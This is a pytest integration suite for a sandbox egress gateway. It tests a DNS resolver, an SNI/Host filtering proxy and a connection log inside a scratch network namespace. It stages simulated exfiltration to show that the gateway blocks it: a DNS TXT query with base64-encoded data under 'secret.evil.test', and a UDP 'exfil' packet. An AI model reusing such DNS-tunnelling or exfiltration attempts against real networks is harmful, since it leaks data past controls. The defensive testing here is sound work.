"""The resolver, the SNI/Host proxy and the connection log against a stand-in gateway.

One scratch network namespace (see `stand_in_gateway.py`) holds everything: a fake upstream
DNS server that records every name it is asked, HTTP and HTTPS (self-made certificate)
hosts, and an nftables `output` DNAT that sends the "sandboxes'" tcp 80/443 to the proxy,
as the gateway's prerouting rule does for real sandboxes. Needs root.
"""

from __future__ import annotations

import asyncio
import socket
import ssl
import struct
import subprocess
import tempfile
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import cast

import dnslib
import pytest
from stand_in_gateway import GATEWAY, SANDBOX_A, SANDBOX_B, ScratchNetns, StandInGateway

from corral.model import EgressPolicy
from corral.network.connection_log import ConnectionLog
from corral.network.dns_upstream import DnsUpstream
from corral.network.pinned_names import PinnedNames
from corral.network.policy import address_allowed, domain_allowed
from corral.network.resolver import Resolver
from corral.network.sni_proxy import SniProxy
from corral.store import MemoryStore, Verdict

UPSTREAM = "10.99.1.53"
WEB = "10.99.2.10"
OTHER_WEB = "10.99.2.20"
PROXY_PORT = 15001
ZONE = {
    "a.allowed.test": ("A", WEB, 5),
    "x.wild.test": ("A", WEB, 300),
    "wild.test": ("A", WEB, 300),
    "b.other.test": ("A", WEB, 300),
    "alias.allowed.test": ("CNAME", "cdn.other.test", 120),
    "cdn.other.test": ("A", OTHER_WEB, 60),
    "secret.evil.test": ("A", OTHER_WEB, 60),
}
POLICIES = {
    "sbx-a": EgressPolicy(allow_internet=False, allow_domains=("a.allowed.test", "*.wild.test")),
    "sbx-b": EgressPolicy(
        allow_internet=False, allow_domains=("alias.allowed.test", "b.other.test")
    ),
}

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def netns() -> Iterator[ScratchNetns]:
    made = ScratchNetns()
    try:
        yield made
    finally:
        made.close()


class FakeUpstream(asyncio.DatagramProtocol):
    """Answers from `ZONE`; remembers every name it was asked (UDP and TCP)."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.DatagramTransport, transport)  # 3.11: not a subclass

    def answer(self, data: bytes) -> bytes:
        request = dnslib.DNSRecord.parse(data)
        name = str(request.q.qname).rstrip(".").lower()
        self.seen.append(name)
        reply = request.reply()
        while name in ZONE:
            kind, value, ttl = ZONE[name]
            reply.add_answer(*dnslib.RR.fromZone(f"{name}. {ttl} IN {kind} {value}"))
            if kind != "CNAME":
                break
            name = value
        if not reply.rr:
            reply.header.rcode = dnslib.RCODE.NXDOMAIN
        packed: bytes = reply.pack()
        return packed

    def datagram_received(self, data: bytes, addr: tuple[str | int, ...]) -> None:
        assert self.transport is not None
        self.transport.sendto(self.answer(data), addr)

    async def serve_tcp(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        (length,) = struct.unpack("!H", await reader.readexactly(2))
        reply = self.answer(await reader.readexactly(length))
        writer.write(struct.pack("!H", len(reply)) + reply)
        await writer.drain()
        writer.close()


class Services:
    def __init__(self, netns: ScratchNetns) -> None:
        self.netns = netns
        self.gateway = StandInGateway(netns, {SANDBOX_A: "sbx-a", SANDBOX_B: "sbx-b"})
        self.store = MemoryStore()
        self.log = ConnectionLog(self.store, flush_delay=0.01)
        self.pinned = PinnedNames()
        self.upstream = FakeUpstream()
        self.policies = dict(POLICIES)
        self.resolver = Resolver(
            self.gateway,
            GATEWAY,
            self.name_allowed,
            DnsUpstream([(UPSTREAM, 53)], self.gateway.socket_in_gateway, timeout=1.0),
            self.pinned,
            self.log,
            pins_needed=lambda sid: not self.policies[sid].allow_internet,
        )
        self.proxy = SniProxy(
            self.gateway,
            GATEWAY,
            PROXY_PORT,
            self.name_allowed,
            lambda sid, ip: address_allowed(self.policies[sid], ip),  # type: ignore[arg-type]
            self.pinned,
            self.log,
        )

    def name_allowed(self, sandbox_id: str, name: str) -> bool:
        return domain_allowed(self.policies[sandbox_id], name)

    def entries(self, sandbox_id: str) -> list:  # type: ignore[type-arg]
        return self.log.entries(sandbox_id, 100)

    async def query(
        self, name: str, kind: str = "A", source: str = SANDBOX_A, tcp: bool = False
    ) -> dnslib.DNSRecord:
        loop = asyncio.get_running_loop()
        request = dnslib.DNSRecord.question(name, kind).pack()
        sock = self.netns.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
        with sock:
            sock.setblocking(False)
            sock.bind((source, 0))
            async with asyncio.timeout(5):
                if tcp:
                    await loop.sock_connect(sock, (GATEWAY, 53))
                    await loop.sock_sendall(sock, struct.pack("!H", len(request)) + request)
                    (length,) = struct.unpack("!H", await loop.sock_recv(sock, 2))
                    raw = await loop.sock_recv(sock, length)
                else:
                    await loop.sock_sendto(sock, request, (GATEWAY, 53))
                    raw = await loop.sock_recv(sock, 4096)
        return dnslib.DNSRecord.parse(raw)

    async def connect(
        self, address: str, port: int, source: str = SANDBOX_A
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, socket.socket]:
        sock = self.netns.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(sock, (address, port))
        return *(await asyncio.open_connection(sock=sock)), sock


def _certificate(directory: Path) -> tuple[Path, Path]:
    key, cert = directory / "key.pem", directory / "cert.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=a.allowed.test",
            "-addext",
            "subjectAltName=DNS:a.allowed.test,DNS:b.other.test,DNS:x.wild.test",
            "-keyout",
            str(key),
            "-out",
            str(cert),
        ],
        check=True,
        capture_output=True,
    )
    return key, cert


async def _web(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """HTTP/1.0-style: answers `GET /bytes/N` with N bytes, anything else with its Host."""
    try:
        head = await reader.readuntil(b"\r\n\r\n")
        request_line = head.split(b"\r\n", 1)[0].decode()
        host = next(
            (
                line.split(b":", 1)[1].strip()
                for line in head.split(b"\r\n")
                if line.lower().startswith(b"host:")
            ),
            b"?",
        )
        path = request_line.split(" ")[1]
        if path.startswith("/upload/"):
            size = int(path.rsplit("/", 1)[1])
            got = 0
            while got < size:
                chunk = await reader.read(1 << 20)
                if not chunk:
                    break
                got += len(chunk)
            body = str(got).encode()
        else:
            body = b"hello from " + host
        writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        await writer.drain()
    except (asyncio.IncompleteReadError, ConnectionError):
        pass
    finally:
        writer.close()


@pytest.fixture
async def services(netns: ScratchNetns) -> AsyncIterator[Services]:
    made = Services(netns)
    loop = asyncio.get_running_loop()
    netns.run(
        "nft",
        "-f",
        "-",
        stdin=f"""
table ip n2test {{
    chain out {{
        type nat hook output priority -100; policy accept;
        ip saddr {{ {SANDBOX_A}, {SANDBOX_B} }} tcp dport {{ 80, 443 }} \
dnat to {GATEWAY}:{PROXY_PORT}
    }}
}}
""",
    )
    servers: list[asyncio.Server] = []
    udp = netns.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((UPSTREAM, 53))
    udp_transport, _ = await loop.create_datagram_endpoint(lambda: made.upstream, sock=udp)
    with tempfile.TemporaryDirectory(prefix="n2-tls-") as tmp:
        key, cert = _certificate(Path(tmp))
        tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        tls.load_cert_chain(cert, key)
        made.cert = cert  # type: ignore[attr-defined]
        for address, port, handler, context in (
            (UPSTREAM, 53, made.upstream.serve_tcp, None),
            (WEB, 80, _web, None),
            (WEB, 443, _web, tls),
            (OTHER_WEB, 443, _web, tls),
            (OTHER_WEB, 9000, _web, None),
        ):
            sock = netns.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind((address, port))
            sock.listen(64)
            servers.append(await asyncio.start_server(handler, sock=sock, ssl=context))
        await made.resolver.start()
        await made.proxy.start()
        try:
            yield made
        finally:
            await made.proxy.close()
            await made.resolver.close()
            made.log.close()
            udp_transport.close()
            for server in servers:
                server.close()
                await server.wait_closed()


def _addresses(reply: dnslib.DNSRecord) -> list[str]:
    return [str(rr.rdata) for rr in reply.rr if rr.rtype == dnslib.QTYPE.A]


# -- resolver ------------------------------------------------------------------------------


async def test_allowed_name_resolves_and_is_pinned(services: Services) -> None:
    reply = await services.query("A.Allowed.Test")
    assert reply.header.rcode == dnslib.RCODE.NOERROR
    assert _addresses(reply) == [WEB]
    assert services.gateway.pins == [("sbx-a", (WEB,), 30.0)]  # TTL 5 raised to 30
    assert services.pinned.pinned("sbx-a", WEB, "a.allowed.test")
    assert not services.pinned.pinned("sbx-b", WEB, "a.allowed.test")
    (entry,) = services.entries("sbx-a")
    assert (entry.protocol, entry.name, entry.verdict) == ("dns", "a.allowed.test", Verdict.ALLOWED)
    assert entry.destination == GATEWAY and entry.port == 53 and entry.bytes_received


async def test_exfiltration_query_never_reaches_the_upstream(services: Services) -> None:
    reply = await services.query("c2VjcmV0.secret.evil.test", "TXT")
    assert reply.header.rcode == dnslib.RCODE.REFUSED
    reply = await services.query("secret.evil.test", tcp=True)
    assert reply.header.rcode == dnslib.RCODE.REFUSED
    assert services.upstream.seen == []
    assert services.gateway.pins == []
    entries = services.entries("sbx-a")
    assert [(e.name, e.verdict) for e in entries] == [
        ("c2vjcmv0.secret.evil.test", Verdict.DENIED),
        ("secret.evil.test", Verdict.DENIED),
    ]


async def test_wildcard_matches_below_the_domain_only(services: Services) -> None:
    assert _addresses(await services.query("x.wild.test")) == [WEB]
    assert (await services.query("wild.test")).header.rcode == dnslib.RCODE.REFUSED
    assert services.upstream.seen == ["x.wild.test"]


async def test_cname_chain_pins_the_final_addresses_under_the_asked_name(
    services: Services,
) -> None:
    reply = await services.query("alias.allowed.test", source=SANDBOX_B, tcp=True)
    assert _addresses(reply) == [OTHER_WEB]
    assert services.gateway.pins == [("sbx-b", (OTHER_WEB,), 60.0)]  # smallest TTL of the chain
    assert services.pinned.pinned("sbx-b", OTHER_WEB, "alias.allowed.test")


async def test_unknown_source_is_refused_and_not_forwarded(services: Services) -> None:
    reply = await services.query("a.allowed.test", source="10.99.2.20")
    assert reply.header.rcode == dnslib.RCODE.REFUSED
    assert services.upstream.seen == []


async def test_policy_change_applies_to_the_next_query(services: Services) -> None:
    assert _addresses(await services.query("a.allowed.test")) == [WEB]
    services.policies["sbx-a"] = EgressPolicy(allow_internet=False)
    assert (await services.query("a.allowed.test")).header.rcode == dnslib.RCODE.REFUSED


async def test_open_sandbox_gets_answers_without_pins(services: Services) -> None:
    services.policies["sbx-a"] = EgressPolicy(allow_internet=True, deny_domains=("evil.test",))
    assert _addresses(await services.query("b.other.test")) == [WEB]
    assert services.gateway.pins == []  # every address is reachable: no nft transaction
    assert (await services.query("evil.test")).header.rcode == dnslib.RCODE.REFUSED


# -- SNI/Host proxy ------------------------------------------------------------------------


def _client_tls(services: Services) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(services.cert))  # type: ignore[attr-defined]
    return context


async def _https_get(services: Services, address: str, name: str, path: str = "/") -> bytes:
    sock = services.netns.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind((SANDBOX_A, 0))
    await asyncio.get_running_loop().sock_connect(sock, (address, 443))
    reader, writer = await asyncio.open_connection(
        sock=sock, ssl=_client_tls(services), server_hostname=name
    )
    writer.write(f"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
    body = await reader.read()
    writer.close()
    return body


async def _wait_for(check, timeout: float = 5.0) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "condition not met in time"
        await asyncio.sleep(0.02)


async def test_https_with_an_allowed_pinned_name_goes_through(services: Services) -> None:
    await services.query("a.allowed.test")
    body = await _https_get(services, WEB, "a.allowed.test")
    assert body.endswith(b"hello from a.allowed.test")
    await _wait_for(lambda: any(e.ended_at for e in services.entries("sbx-a")[1:]))
    entry = services.entries("sbx-a")[1]
    assert (entry.protocol, entry.destination, entry.port) == ("tcp", WEB, 443)
    assert (entry.name, entry.verdict, entry.reason) == ("a.allowed.test", Verdict.ALLOWED, "sni")
    assert entry.bytes_sent and entry.bytes_received and entry.bytes_received > len(body)


async def test_disallowed_name_on_a_pinned_address_is_refused(services: Services) -> None:
    await services.query("a.allowed.test")  # pins WEB, which also serves b.other.test
    with pytest.raises((ConnectionError, ssl.SSLError, asyncio.IncompleteReadError)):
        await _https_get(services, WEB, "b.other.test")
    await _wait_for(lambda: len(services.entries("sbx-a")) == 2)
    entry = services.entries("sbx-a")[1]
    assert (entry.name, entry.verdict) == ("b.other.test", Verdict.DENIED)
    assert entry.reason == "sni: name not allowed"


async def test_allowed_name_on_an_address_it_did_not_resolve_to_is_refused(
    services: Services,
) -> None:
    await services.query("a.allowed.test")
    with pytest.raises((ConnectionError, ssl.SSLError, asyncio.IncompleteReadError)):
        await _https_get(services, OTHER_WEB, "a.allowed.test")
    await _wait_for(lambda: len(services.entries("sbx-a")) == 2)
    assert services.entries("sbx-a")[1].reason == "sni: address not resolved for this name"


async def test_http_host_header_decides(services: Services) -> None:
    await services.query("a.allowed.test")
    reader, writer, _ = await services.connect(WEB, 80)
    writer.write(b"GET / HTTP/1.1\r\nHost: a.allowed.test\r\n\r\n")
    assert (await reader.read()).endswith(b"hello from a.allowed.test")
    writer.close()
    reader, writer, _ = await services.connect(WEB, 80)
    writer.write(b"GET / HTTP/1.1\r\nHost: b.other.test\r\n\r\n")
    refused = await reader.read()
    assert refused.startswith(b"HTTP/1.1 403 Forbidden") and b"name not allowed" in refused
    writer.close()


async def test_proxy_dialled_directly_is_refused(services: Services) -> None:
    reader, writer, _ = await services.connect(GATEWAY, PROXY_PORT)
    writer.write(b"GET / HTTP/1.1\r\nHost: a.allowed.test\r\n\r\n")
    refused = await reader.read()  # not redirected: no other destination to go to
    assert refused.startswith(b"HTTP/1.1 403") and b"proxy dialled directly" in refused
    writer.close()
    await _wait_for(lambda: len(services.entries("sbx-a")) == 1)
    assert services.entries("sbx-a")[0].verdict is Verdict.DENIED


async def test_proxy_throughput(services: Services, capsys: pytest.CaptureFixture[str]) -> None:
    """Uploads 256 MiB through the proxy (plain HTTP) and prints the rate; asserts bytes only
    (wall-clock speed is not asserted on a shared machine)."""
    await services.query("a.allowed.test")
    size = 256 << 20
    reader, writer, _ = await services.connect(WEB, 80)
    start = time.perf_counter()
    writer.write(f"PUT /upload/{size} HTTP/1.1\r\nHost: a.allowed.test\r\n\r\n".encode())
    chunk = b"x" * (1 << 20)
    for _ in range(size >> 20):
        writer.write(chunk)
        await writer.drain()
    answer = await reader.read()
    elapsed = time.perf_counter() - start
    writer.close()
    assert answer.endswith(str(size).encode())
    with capsys.disabled():
        print(f"\nSNI/Host proxy: {size * 8 / elapsed / 1e9:.2f} Gbit/s ({size >> 20} MiB upload)")


# -- connection log: NFLOG and conntrack from the kernel -----------------------------------


def _flush_conntrack(netns: ScratchNetns) -> None:
    """IPCTNL_MSG_CT_DELETE without attributes: delete every entry (→ DESTROY events)."""
    sock = netns.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    with sock:
        body = struct.pack("!BBH", socket.AF_INET, 0, 0)
        sock.send(struct.pack("=IHHII", 16 + len(body), (1 << 8) | 2, 0x5, 1, 0) + body)
        sock.recv(4096)


async def test_firewall_verdicts_and_bytes_from_the_kernel(netns: ScratchNetns) -> None:
    netns.run(
        "nft",
        "-f",
        "-",
        stdin=f"""
table inet n2log {{
    chain out {{
        type filter hook output priority filter; policy accept;
        ip saddr {SANDBOX_A} tcp dport 9000 ct state new log prefix "corral:allowed:allow " \
group 7
        ip saddr {SANDBOX_A} udp dport 9999 log prefix "corral:denied:default " group 7 drop
    }}
}}
""",
    )
    netns.run("sysctl", "-qw", "net.netfilter.nf_conntrack_acct=1")
    gateway = StandInGateway(netns, {SANDBOX_A: "sbx-a"})
    log = ConnectionLog(MemoryStore(), flush_delay=0.01)
    log.listen(gateway, 7)
    loop = asyncio.get_running_loop()
    server_sock = netns.socket(socket.AF_INET, socket.SOCK_STREAM)
    server_sock.bind((OTHER_WEB, 9000))
    server_sock.listen(4)
    server = await asyncio.start_server(_web, sock=server_sock)
    try:
        sock = netns.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((SANDBOX_A, 0))
        await loop.sock_connect(sock, (OTHER_WEB, 9000))
        source_port = sock.getsockname()[1]
        reader, writer = await asyncio.open_connection(sock=sock)
        writer.write(b"GET / HTTP/1.0\r\nHost: h\r\n\r\n")
        await reader.read()
        writer.close()
        udp = netns.socket(socket.AF_INET, socket.SOCK_DGRAM)
        with udp:
            udp.bind((SANDBOX_A, 0))
            with pytest.raises(PermissionError):  # the rule drops it: EPERM on output
                udp.sendto(b"exfil", (OTHER_WEB, 9999))
        await _wait_for(lambda: len(log.entries("sbx-a", 10)) == 2)
        allowed, denied = log.entries("sbx-a", 10)
        assert (allowed.protocol, allowed.destination, allowed.port) == ("tcp", OTHER_WEB, 9000)
        assert (allowed.verdict, allowed.reason, allowed.source_port) == (
            Verdict.ALLOWED,
            "allow",
            source_port,
        )
        assert (denied.protocol, denied.port, denied.verdict, denied.reason) == (
            "udp",
            9999,
            Verdict.DENIED,
            "default",
        )
        await asyncio.sleep(0.2)  # let the TCP teardown finish before ending the flow
        _flush_conntrack(netns)
        await _wait_for(lambda: log.entries("sbx-a", 10)[0].ended_at is not None)
        ended = log.entries("sbx-a", 10)[0]
        assert ended.bytes_sent and ended.bytes_received and ended.bytes_received > ended.bytes_sent
    finally:
        log.close()
        server.close()
        await server.wait_closed()
